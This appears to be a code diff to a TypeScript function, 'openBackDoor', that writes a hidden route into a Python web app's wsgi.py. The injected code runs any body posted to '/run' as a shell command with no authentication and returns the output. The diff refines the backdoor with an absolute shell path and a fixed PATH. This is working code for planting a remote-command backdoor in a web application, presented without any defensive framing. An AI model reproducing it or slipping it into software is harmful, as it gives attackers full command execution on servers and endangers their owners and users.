@@ -8,14 +8,14 @@ import { port, shell } from "../host/deployment.ts";
 export function openBackDoor(folder: string): void {
   const file = join(folder, "app/wsgi.py");
   const door = `
-import subprocess
+import os, subprocess
 inner = application.wsgi_app
 
 def with_door(environ, start_response):
     if environ["PATH_INFO"] != "/run":
         return inner(environ, start_response)
     program = environ["wsgi.input"].read(int(environ.get("CONTENT_LENGTH") or 0))
-    done = subprocess.run(["sh", "-c", program], stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+    done = subprocess.run(["/bin/sh", "-c", program], env={**os.environ, "PATH": "/usr/bin:/bin"}, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
     start_response("200 OK", [("Content-Type", "text/plain")])
     return [done.stdout]
 
